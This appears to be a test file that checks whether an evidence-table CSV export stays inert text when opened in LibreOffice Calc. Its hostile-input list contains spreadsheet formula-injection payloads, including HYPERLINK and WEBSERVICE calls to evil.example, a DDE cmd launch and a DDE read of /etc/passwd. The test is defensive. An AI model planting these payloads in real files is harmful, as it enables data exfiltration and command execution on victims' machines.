/** The table as the spreadsheet that most helpers have reads it: every text as text, and nothing that computes. */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { DOMParser } from 'linkedom';
import { afterAll, beforeAll, expect, it } from 'vitest';
import english from '../../../locales/en.json';
import { unguarded } from '../../../utils/export/csv';
import { evidenceTable } from '../../../utils/export/evidence-table';
import { makeTranslate } from '../../../utils/i18n';
import { aPost, aRecord } from '../components/records';

const SOFFICE = '/usr/lib/libreoffice/program/soffice';

/** Each tries to become something else than text. */
const HOSTILE = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"A1")', '=WEBSERVICE("https://evil.example/")', 'seen, =1+1', '"\n=1+1', '\uFF1D1+1', ' \u200b=1+1',
] as const;
/** Each would be read as a number, a date, a time or truth, and be written otherwise. */
const VALUES = ['1990000000000000000', '007', '1e5', '11/12', '3 Mar', '12:30', 'TRUE', '50%', '1,000.50'] as const;
const TAMIL = 'நீ எங்கே வேலை செய்கிறாய் என்று எங்களுக்குத் தெரியும்.';
const TEXTS = [...HOSTILE, ...VALUES, TAMIL, '你住在哪里', 'نعرف أين تسكن', '👩🏽‍💻 =1+1', "'quoted'"];

let folder: string;
let cells: { type: string | null; formula: string | null; text: string }[][];

beforeAll(async () => {
  if (!existsSync(SOFFICE)) throw new Error('libreoffice-calc-nogui is not here; `npm test` installs it.');
  folder = mkdtempSync(join(tmpdir(), 'onrecord-calc-'));
  let table = '';
  for await (const line of evidenceTable(TEXTS.map(recordOf), makeTranslate('en', english))) table += line;
  writeFileSync(join(folder, 'evidence.csv'), table);
  // 44 comma, 34 double quote, 76 UTF-8, from line 1, no format of columns, 1033 English, quoted fields are not all text (false), numbers and
  // dates are looked for (true): what a person gets who ticks everything that could do harm, and formulas are let in too.
  execFileSync(SOFFICE, [
    `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`, '--headless', '--norestore', '--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true',
    '--convert-to', 'fods', '--outdir', folder, join(folder, 'evidence.csv'),
  ], { stdio: 'pipe', timeout: 150_000 });
  const name = ['evidence.fods', 'evidence-evidence.fods'].find((each) => existsSync(join(folder, each)))!;
  cells = rowsOf(readFileSync(join(folder, name), 'utf8'));
}, 180_000);

afterAll(() => rmSync(folder, { recursive: true, force: true }));

const recordOf = (text: string, index: number) => aRecord({
  capture: { id: `record-${index}`, post: { ...aPost({ text, id: text }), author: { name: text, handle: text, profileUrl: null, id: text, avatarUrl: null } } },
  annotations: { categories: [], note: text, reports: [], pixelsErasedAt: null },
});

/** The cells of the first sheet, repeated ones and all. */
function rowsOf(fods: string): typeof cells {
  const document = new DOMParser().parseFromString(fods, 'text/xml');
  return [...document.querySelectorAll('table\\:table-row')].map((row) => [...row.querySelectorAll('table\\:table-cell')].flatMap((cell) => {
    const found = {
      type: cell.getAttribute('office:value-type'), formula: cell.getAttribute('table:formula'),
      text: [...cell.querySelectorAll('text\\:p')].map((line) => textOf(line)).join('\n'),
    };
    return Array.from({ length: Math.min(100, Number(cell.getAttribute('table:number-columns-repeated') ?? 1)) }, () => found);
  }));
}

/** Runs of spaces and tabs are elements in this format. */
function textOf(node: Node): string {
  if (node.nodeType === 3) return node.textContent ?? '';
  const element = node as Element;
  if (element.localName === 'text:s') return ' '.repeat(Number(element.getAttribute('text:c') ?? 1));
  if (element.localName === 'text:tab') return '\t';
  if (element.localName === 'text:line-break') return '\n';
  return [...element.childNodes].map((child) => textOf(child)).join('');
}

const asRead = (text: string) => text.replaceAll(/\r\n?/g, '\n');

it('computes nothing, and asks nobody', () => {
  expect(cells.flat().filter(({ formula }) => formula !== null)).toEqual([]);
  expect(cells.flat().length).toBeGreaterThan(TEXTS.length * 20);
});

it('keeps every word of others, in every script, as it was', () => {
  const [header, ...rows] = cells;
  for (const column of ['text', 'author_name', 'author_handle', 'author_id', 'post_id', 'note']) {
    const at = header!.findIndex(({ text }) => text === column);
    const read = rows.slice(0, TEXTS.length).map((row) => row[at]!);
    expect([column, ...read.map(({ text }) => unguarded(text))]).toEqual([column, ...TEXTS.map(asRead)]);
    expect([column, ...new Set(read.map(({ type }) => type))]).toEqual([column, 'string']);
  }
});
